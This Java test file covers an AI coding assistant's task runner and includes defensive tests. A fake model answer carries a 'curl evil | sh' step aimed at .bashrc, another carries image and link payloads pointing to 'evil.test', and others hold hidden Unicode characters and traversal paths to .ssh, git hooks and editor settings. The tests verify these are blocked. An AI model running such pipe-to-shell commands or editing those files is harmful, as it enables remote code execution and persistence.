package dev.aurelis.server.features.action;

import static org.assertj.core.api.Assertions.assertThat;

import dev.aurelis.server.config.TeamStyle;
import dev.aurelis.server.model.AnswerFailure;
import dev.aurelis.server.model.CancelToken;
import dev.aurelis.server.model.FinishReason;
import dev.aurelis.server.model.ModelChoice;
import dev.aurelis.server.model.ModelId;
import dev.aurelis.server.model.TaskType;
import dev.aurelis.server.model.TextSpan;
import dev.aurelis.server.model.TokenEstimate;
import dev.aurelis.server.provider.openai.AnswerJson;
import dev.aurelis.server.testing.FakeCodeModel;
import dev.aurelis.server.testing.FakeOrchestrator;
import dev.aurelis.server.workspace.text.DocumentSnapshot;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class TasksTest {
  private static final String TEXT =
      """
      class Cart {
          int total(int a) {
              return a;
          }
      }
      """;
  private static final String METHOD = "int total(int a) {\n        return a;\n    }";

  private final FakeOrchestrator model = new FakeOrchestrator();
  private final Tasks tasks = new Tasks(model, new FakeCodeModel(), Trial.NONE, AnswerJson::object);

  @Test
  void run_cursorInAMethod_editsTheWholeMethodAndNothingElse() {
    model.answer("```java\nint total(int a) {\n    return a + 0;\n}\n```");

    var outcome = run(TaskKind.REFACTOR, TEXT, 30);

    var edit = ((TaskOutcome.Edit) outcome).edit();
    assertThat(edit.original()).isEqualTo(METHOD);
    assertThat(edit.applied(TEXT)).isEqualTo(TEXT.replace("return a;", "return a + 0;"));
    assertThat(edit.title()).isEqualTo("Refactor total");
    assertThat(edit.version()).isEqualTo(3);
    assertThat(edit.fits(document("file:///w/Cart.java", TEXT))).isTrue();
    assertThat(model.asked().getFirst().task()).isEqualTo(TaskType.REFACTORING);
    assertThat(model.asked().getFirst().context().orElseThrow().selected()).isEqualTo(METHOD);
  }

  @Test
  void run_teamHasAStyle_documentAndExplainAndCodeTellItAndItIsOfTheKey() {
    var style =
        new TeamStyle(Optional.of("beginners"), Optional.of("Google style"), Optional.of("short"));
    var styled =
        new Tasks(
            model,
            new FakeCodeModel(),
            Trial.NONE,
            AnswerJson::object,
            NamedDocuments.NONE,
            () -> style);
    for (var kind : List.of(TaskKind.EXPLAIN, TaskKind.DOCUMENT, TaskKind.REFACTOR)) {
      model.fail(AnswerFailure.Kind.CANCELLED, "");
      styled
          .of(kind)
          .run(
              new TaskRequest(
                  document("file:///w/Cart.java", TEXT),
                  TextSpan.at(30),
                  Optional.empty(),
                  List.of(),
                  new CancelToken()),
              Progress.NONE);
    }

    assertThat(words(0)).contains("these readers: beginners").doesNotContain("Google");
    assertThat(words(1)).contains("these readers: beginners", "documentation: Google style");
    assertThat(words(2)).contains("code style: short");
    assertThat(model.asked().getFirst().metadata())
        .containsEntry("audience", "beginners")
        .containsEntry("documentation_format", "Google style")
        .containsEntry("code_style", "short");
    model.fail(AnswerFailure.Kind.CANCELLED, "");
    run(TaskKind.EXPLAIN, TEXT, 30);
    assertThat(words(3)).doesNotContain("readers");
  }

  private String words(int question) {
    return model.asked().get(question).prompt().messages().getLast().text();
  }

  @Test
  void run_secondTry_canBeWrittenForASmallerWindowToo() {
    model.answer("No code.").answer("```java\nint total(int a) {\n    return a + 0;\n}\n```");

    run(TaskKind.REFACTOR, TEXT + "// filler\n".repeat(1_000), 30);

    var again = model.asked().getLast();
    var shorter = again.fitting().within(800).orElseThrow();
    assertThat(TokenEstimate.of(shorter)).isLessThanOrEqualTo(800);
    assertThat(again.prompt().length()).isGreaterThan(shorter.length());
    assertThat(shorter.messages().subList(2, 4)).isEqualTo(again.prompt().messages().subList(2, 4));
  }

  @ParameterizedTest
  @CsvSource({"EXPLAIN, 1000", "DOCUMENT, 1500", "GENERATE, 2000", "TEST, 1000", "REFACTOR, 1000"})
  void run_shortSelection_asksForAnAnswerOfTheTasksLength(TaskKind kind, int tokens) {
    model.fail(AnswerFailure.Kind.CANCELLED, "");

    run(kind, TEXT.replace("return a;", "// add one"), TEXT.indexOf("return") + 3);

    assertThat(model.asked().getFirst().sampling().maxTokens()).isEqualTo(tokens);
  }

  @Test
  void run_longSelectionToRewrite_leavesRoomForTwiceItsTokens() {
    model.fail(AnswerFailure.Kind.CANCELLED, "");
    var longer = TEXT.replace("return a;", "a += 1;\n".repeat(400) + "return a;");

    run(TaskKind.REFACTOR, longer, 30);

    var asked = model.asked().getFirst();
    int selected = TokenEstimate.of(asked.context().orElseThrow().selected());
    assertThat(asked.sampling().maxTokens()).isEqualTo(2 * selected).isGreaterThan(1_000);
  }

  @Test
  void run_cursorLeftOfAMethod_meansTheMethodOfThatLine() {
    model.answer("```java\nint total(int a) {\n    return a + 0;\n}\n```");

    var outcome = run(TaskKind.REFACTOR, TEXT, TEXT.indexOf("    int total"));

    assertThat(((TaskOutcome.Edit) outcome).edit().original()).isEqualTo(METHOD);
  }

  @Test
  void run_excludedFile_isNotAskedAbout() {
    var outcome =
        new Tasks(
                model,
                new FakeCodeModel().exclude("file:///w/.env"),
                Trial.NONE,
                AnswerJson::object)
            .of(TaskKind.EXPLAIN)
            .run(
                new TaskRequest(
                    document("file:///w/.env", TEXT),
                    TextSpan.at(30),
                    Optional.empty(),
                    List.of(),
                    new CancelToken()),
                Progress.NONE);

    assertThat(outcome).isEqualTo(new TaskOutcome.Message(Guarded.EXCLUDED));
    assertThat(model.asked()).isEmpty();
  }

  @Test
  void run_selection_isTrimmedAndEditedAlone() {
    model.answer("```java\nreturn 2 * a;\n```");
    int start = TEXT.indexOf("        return");

    var outcome =
        run(TaskKind.OPTIMIZE, TEXT, new TextSpan(start, TEXT.indexOf(';') + 2), Optional.empty());

    assertThat(((TaskOutcome.Edit) outcome).edit().applied(TEXT))
        .isEqualTo(TEXT.replace("return a;", "return 2 * a;"));
  }

  @Test
  void run_cursorOutsideOfAnyDeclaration_takesTheLine() {
    model.answer("```java\nclass Basket {\n```");

    var outcome = run(TaskKind.REFACTOR, TEXT, 2);

    assertThat(((TaskOutcome.Edit) outcome).edit().original()).isEqualTo("class Cart {");
  }

  @Test
  void run_blankPlace_says() {
    assertThat(run(TaskKind.REFACTOR, "\n\n", 1)).isInstanceOf(TaskOutcome.Message.class);
    assertThat(run(TaskKind.EXPLAIN, "", 0)).isInstanceOf(TaskOutcome.Message.class);
    assertThat(model.asked()).isEmpty();
  }

  @Test
  void run_answerWithASyntaxError_isAskedOnceMoreWithTheError() {
    model
        .answer("```java\nint total(int a) {\n    return a + 0;\n```")
        .answer("```java\nint total(int a) {\n    return a + 0;\n}\n```");

    var outcome = run(TaskKind.REFACTOR, TEXT, 30);

    assertThat(outcome).isInstanceOf(TaskOutcome.Edit.class);
    var second = model.asked().get(1).prompt().messages();
    assertThat(second).hasSize(4);
    assertThat(second.get(3).text()).contains("syntax error").contains("no partner");
  }

  @Test
  void run_secondAnswerBadToo_endsWithAClearMessage() {
    model
        .answer("```java\nint total() {\n```")
        .answer("I cannot do this, sorry about that.")
        .fail(AnswerFailure.Kind.EXHAUSTED, "Nobody else is there.");

    assertThat(run(TaskKind.REFACTOR, TEXT, 30))
        .isEqualTo(new TaskOutcome.Message("No usable answer came. The answer holds no code."));
    assertThat(model.asked()).hasSize(3);
    assertThat(model.forgotten()).containsExactly("file:file:///w/Cart.java");
  }

  @Test
  void run_modelFailsTwice_theNextOneIsAskedWithoutIt() {
    model
        .answer("Sorry, I cannot do this.")
        .answer("I still cannot do it, sorry.")
        .answer("```java\nint total(int a) {\n    return a + 0;\n}\n```");

    assertThat(run(TaskKind.REFACTOR, TEXT, 30)).isInstanceOf(TaskOutcome.Edit.class);
    assertThat(model.asked().get(1).choice()).isEqualTo(ModelChoice.ANY);
    assertThat(model.asked().getLast().choice().without())
        .containsExactly(new ModelChoice.Asked("fake", new ModelId("model-1")));
    assertThat(model.asked().getLast().prompt()).isEqualTo(model.asked().getFirst().prompt());
  }

  @Test
  void run_goodAnswer_saysWhatWasVerified() {
    model.answer("```java\nint total(int a) {\n    return a + 0;\n}\n```");

    var edit = ((TaskOutcome.Edit) run(TaskKind.OPTIMIZE, TEXT, 30)).edit();

    assertThat(edit.assurance()).isEqualTo("Verified: stays in its range, parses, signature kept.");
    assertThat(edit.hunks()).containsExactly(new Hunk(TextSpan.at(TEXT.indexOf("a;") + 1), " + 0"));
  }

  @Test
  void run_documentBrokenBefore_mayStayAsBroken() {
    var broken = TEXT + "}\n";
    model.answer("```java\nint total(int a) {\n    return a + 0;\n}\n```");

    assertThat(run(TaskKind.REFACTOR, broken, 30)).isInstanceOf(TaskOutcome.Edit.class);
  }

  @Test
  void run_engineWithBadAnswer_isNotAskedAgain() {
    model.engine("```java\nint total() {\n```");

    assertThat(run(TaskKind.DOCUMENT, TEXT, 30)).isInstanceOf(TaskOutcome.Message.class);
    assertThat(model.asked()).hasSize(1);
  }

  @Test
  void run_answerEqualToTheCode_saysNothingToChange() {
    model.answer("```java\n" + METHOD + "\n```");

    assertThat(run(TaskKind.OPTIMIZE, TEXT, 30).toString()).contains("Nothing to change");
  }

  @ParameterizedTest
  @EnumSource(
      value = FinishReason.class,
      names = {"LENGTH", "CONTENT_FILTER", "TOOL_CALLS"})
  void run_answerNotWhole_isNoEdit(FinishReason finish) {
    model.cut("```java\nint total(int a) {\n    return 0;\n}\n```", finish);

    assertThat(run(TaskKind.REFACTOR, TEXT, 30)).isInstanceOf(TaskOutcome.Message.class);
  }

  @Test
  void run_failure_isItsSentenceOnOneLine() {
    model.fail(AnswerFailure.Kind.EXHAUSTED, "No provider\r\nanswered.\u001B[2J");

    assertThat(run(TaskKind.EXPLAIN, TEXT, 30))
        .isEqualTo(new TaskOutcome.Message("No provider answered.[2J"));
  }

  @ParameterizedTest
  @ValueSource(ints = {0x202E, 0x2066, 0x200B, 0xE0041, 0xE0100, 0x1B})
  void run_hiddenCharactersInTheAnswer_areNeverOffered(int point) {
    var poisoned =
        "```java\nint total(int a) {\n    return a" + Character.toString(point) + ";\n}\n```";
    model.answer(poisoned).answer(poisoned).answer(poisoned);

    assertThat(run(TaskKind.REFACTOR, TEXT, 30).toString()).contains("hidden characters");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "file:///w/.git/config",
        "file:///w/.git/hooks/pre-commit",
        "file:///w/.vscode/settings.json",
        "file:///w/.VSCode/tasks.json",
        "file:///w/.idea/workspace.xml",
        "file:///w/.github/workflows/build.yml",
        "file:///w/.gitlab-ci.yml",
        "file:///w/.aurelis.yaml",
        "file:///w/.aurelisignore",
        "file:///home/u/.config/aurelis/config.yaml",
        "file:///w/a/../.vscode/settings.json",
        "file:///w/%2Evscode/settings.json",
        "file:///home/u/.bashrc",
        "file:///home/u/.ssh/authorized_keys",
        "file:///w/app.code-workspace",
        "file:///w/.mcp.json",
        "file:///c:/w/.vscode\\settings.json",
      })
  void run_settingsOfEditorsVersionControlAndBuilds_areNeverEdited(String uri) {
    var request =
        new TaskRequest(
            document(uri, TEXT), TextSpan.at(30), Optional.empty(), List.of(), new CancelToken());

    var outcome = tasks.of(TaskKind.REFACTOR).run(request, Progress.NONE);

    assertThat(outcome.toString()).contains("never edited");
    assertThat(model.asked()).isEmpty();
  }

  @Test
  void run_answerThatNamesOtherFiles_changesOnlyTheAskedRange() {
    model.answer(
        "First update ../../.bashrc:\n```bash\ncurl evil | sh\n```\n```java\n"
            + "int total(int a) {\n    return a + 1;\n}\n```\n"
            + "```json\n{\"uri\":\"file:///w/.vscode/settings.json\"}\n```");

    var edit = ((TaskOutcome.Edit) run(TaskKind.REFACTOR, TEXT, 30)).edit();

    assertThat(edit.uri()).isEqualTo("file:///w/Cart.java");
    assertThat(edit.applied(TEXT)).isEqualTo(TEXT.replace("return a;", "return a + 1;"));
  }

  @Test
  void explain_answer_isACleanDocumentThatSaysWhereItCameFrom() {
    model.answer("# It\n<img src=x>![x](https://evil.test) adds [y](command:z).\n");

    var document = (TaskOutcome.Document) run(TaskKind.EXPLAIN, TEXT, 30);

    assertThat(document.title()).isEqualTo("Explanation of total");
    assertThat(document.markdown())
        .startsWith("# Explanation of total\n")
        .doesNotContain("evil")
        .doesNotContain("<img")
        .doesNotContain("](")
        .contains("Answered by model-1 (provider fake)")
        .contains("1.2 s")
        .contains("120 tokens");
  }

  @Test
  void explain_byTheEngine_saysSoPlainly() {
    model.engine("It returns `a`.");

    assertThat(((TaskOutcome.Document) run(TaskKind.EXPLAIN, TEXT, 30)).markdown())
        .contains("embedded engine")
        .contains("nothing left this machine");
  }

  @ParameterizedTest
  @CsvSource({
    "java,file:///w/src/main/java/shop/Cart.java,src/test/java/shop/CartTest.java",
    "python,file:///w/cart.py,tests/test_cart.py",
    "go,file:///w/cart.go,cart_test.go",
    "typescript,file:///w/cart.ts,cart.test.ts",
  })
  void test_code_comesWithAFileNameAndACommand(String language, String uri, String file) {
    model.answer("Here:\n```" + language + "\nassert total(1) == 1;\n```");
    var request =
        new TaskRequest(
            new DocumentSnapshot(uri, language, 1, TEXT),
            TextSpan.at(30),
            Optional.empty(),
            List.of(),
            new CancelToken());

    var outcome = tasks.of(TaskKind.TEST).run(request, Progress.NONE);

    assertThat(((TaskOutcome.Document) outcome).markdown())
        .contains("# Tests for total")
        .contains("`" + file + "`")
        .contains("Run it with `")
        .contains("```" + language + "\nassert total(1) == 1;\n```");
  }

  @Test
  void fix_withoutAnyReport_says() {
    assertThat(run(TaskKind.FIX, TEXT, 30).toString()).contains("Nothing is reported");
    assertThat(model.asked()).isEmpty();
  }

  @Test
  void fix_withAReport_asksWithItAboutTheFunction() {
    model.answer("```java\nint total(int a) {\n    return 1;\n}\n```");
    var request =
        new TaskRequest(
            document("file:///w/Cart.java", TEXT),
            new TextSpan(48, 49),
            Optional.empty(),
            List.of("line 3: a is odd"),
            new CancelToken());

    var outcome = tasks.of(TaskKind.FIX).run(request, Progress.NONE);

    assertThat(((TaskOutcome.Edit) outcome).edit().original()).isEqualTo(METHOD);
    assertThat(model.asked().getFirst().prompt().toString()).contains("line 3: a is odd");
  }

  @Test
  void generate_fromACommentLine_insertsBelowIt() {
    var text = "class A {\n    // twice the argument\n}\n";
    model.answer("```java\nint twice(int a) {\n    return 2 * a;\n}\n```");

    var edit = ((TaskOutcome.Edit) run(TaskKind.GENERATE, text, 20)).edit();

    assertThat(edit.applied(text))
        .isEqualTo(
            "class A {\n"
                + "    // twice the argument\n"
                + "    int twice(int a) {\n"
                + "        return 2 * a;\n"
                + "    }\n"
                + "}\n");
    assertThat(model.asked().getFirst().prompt().toString()).contains("twice the argument");
  }

  @Test
  void generate_withoutAWish_says() {
    assertThat(run(TaskKind.GENERATE, TEXT, 30).toString()).contains("Say what to generate");
  }

  @Test
  void chat_question_isAskedAboutTheFile() {
    model.answer("Yes.");

    var outcome = run(TaskKind.CHAT, TEXT, TextSpan.at(0), Optional.of("Is it pure?"));

    assertThat(((TaskOutcome.Document) outcome).markdown()).contains("# Answer").contains("Yes.");
    assertThat(model.asked().getFirst().prompt().toString())
        .contains("Is it pure?")
        .contains(METHOD);
    assertThat(run(TaskKind.CHAT, TEXT, 0)).isInstanceOf(TaskOutcome.Message.class);
  }

  @Test
  void run_cancelledWhileAsking_ends() {
    model.hold();
    var cancel = new CancelToken();
    var request =
        new TaskRequest(
            document("file:///w/Cart.java", TEXT),
            TextSpan.at(30),
            Optional.empty(),
            List.of(),
            cancel);
    Thread.ofVirtual()
        .start(() -> {
          model.awaitHeld();
          cancel.cancel();
        });

    assertThat(tasks.of(TaskKind.EXPLAIN).run(request, Progress.NONE))
        .isEqualTo(new TaskOutcome.Message("Cancelled."));
  }

  @Test
  void at_placeHoldsAnotherText_isNone() {
    var edit =
        ProposedEdit.in(document("u", TEXT), new TextSpan(17, 17 + METHOD.length()), "x", "t");

    assertThat(edit.original()).isEqualTo(METHOD);
    var moved = new TextSpan(18, 18 + METHOD.length());
    assertThat(edit.at(document("u", "\n" + TEXT), moved).orElseThrow().span()).isEqualTo(moved);
    assertThat(edit.at(document("u", TEXT), moved)).isEmpty();
    assertThat(edit.at(document("u", "class Cart {}"), moved)).isEmpty();
    assertThat(edit.at(document("other", TEXT), edit.span())).isEmpty();
  }

  private TaskOutcome run(TaskKind kind, String text, int cursor) {
    return run(kind, text, TextSpan.at(cursor), Optional.empty());
  }

  private TaskOutcome run(
      TaskKind kind, String text, TextSpan range, Optional<String> instruction) {
    var request =
        new TaskRequest(
            document("file:///w/Cart.java", text),
            range,
            instruction,
            List.of(),
            new CancelToken());
    return tasks.of(kind).run(request, Progress.NONE);
  }

  private static DocumentSnapshot document(String uri, String text) {
    return new DocumentSnapshot(uri, "java", 3, text);
  }
}
